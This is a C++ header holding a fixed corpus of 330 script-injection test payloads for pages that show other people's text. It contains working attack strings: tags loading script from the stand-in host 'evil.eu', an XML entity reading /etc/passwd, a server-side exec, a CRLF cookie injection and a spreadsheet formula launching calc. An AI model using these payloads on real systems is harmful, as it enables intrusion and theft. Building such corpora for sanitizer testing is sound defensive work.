// Payloads for script injection: what is tried against pages that show other people's text.
//
// Bases from the usual collections (OWASP's cheat sheet for filter evasion, HTML5 attributes that run script, XML, templates,
// bidirectional and control characters), each behind what leaves text, an attribute, a title, a comment, a script, a section
// of XML: 330 in all, always the same.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace izvor::testing {

inline constexpr std::string_view kInjections[] = {
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.eu/x.js></sCrIpT>",
    "<script\x0btype=module>import('//evil.eu')</script>",
    "<script>/*",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  java\tscript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.eu/x.swf></object>",
    "<embed src=//evil.eu/x>",
    "<base href=//evil.eu/>",
    "<link rel=stylesheet href=//evil.eu/x.css>",
    "<style>@import '//evil.eu/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.eu><button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<div style=background:url(javascript:alert(1))>",
    "<x onclick=alert(1)>x</x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<mark onmouseover=alert(1)>",
    "{{{content}}}<script>alert(1)</script>{{#x}}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}<!--#exec cmd='ls'-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
    "\xE2\x80\xAE<script>alert(1)</script>\xE2\x80\xAC",
    "\x01\x02<scr\x03ipt>alert(1)</script>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<?xml-stylesheet href='//evil.eu/x.xsl'?>",
    "<xsl:script xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>alert(1)</xsl:script>",
    "javascript:alert(1)//",
    " \tjavascript\n:alert(1)",
    "vbscript:msgbox(1)",
    "//evil.eu/%2e%2e/",
    "onmouseover=alert(1) x=",
    "alert`1`;throw onerror=alert,1",
    "\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>",
    "='+cmd|' /C calc'!A0"};
/// What ends the text, attribute, title, script or section of XML that the payload may stand in.
inline constexpr std::string_view kWaysOut[] = {
    "", "\"'>", "</title></a></h2>-->", "]]></summary>", "');//</script>", "\" autofocus onfocus=\"alert(1)"};
inline std::vector<std::string> injection_payloads() {
  std::vector<std::string> payloads;
  for (const std::string_view way_out : kWaysOut)
    for (const std::string_view base : kInjections) payloads.push_back(std::string(way_out) + std::string(base));
  return payloads;
}

}  // namespace izvor::testing
